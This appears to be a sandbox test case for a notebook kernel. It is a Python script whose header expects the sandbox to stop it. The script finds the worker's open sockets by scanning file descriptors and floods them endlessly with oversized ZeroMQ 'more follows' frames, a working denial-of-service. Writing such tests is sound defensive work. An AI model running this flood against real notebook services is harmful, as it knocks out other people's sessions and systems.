"""
tries = "Begins endless messages while the notebook runs, when the worker reads four sockets"
expect = "Sizes are counted before bytes are read, and too much of them ends the sandbox"
proof = "harmful"
runs = ["train"]
limits = {wall_s = 20}
"""

import os
import select
import socket


def connections():
    for descriptor in range(3, 256):
        try:
            found = socket.socket(fileno=descriptor)
            found.getpeername()
        except OSError:
            continue
        if found.getsockname():  # else ZeroMQ's own, between its threads
            yield found


def attack(targets):
    part = 65536
    parts = (b"\x03" + part.to_bytes(8, "big") + b"x" * part) * 16  # "more follows"
    left = {found: parts for found in connections()}
    while left:
        _, ready, _ = select.select([], left, [])
        for found in ready:
            try:
                sent = found.send(left[found])
            except OSError:
                del left[found]
                continue
            left[found] = left[found][sent:] or parts
    return ""
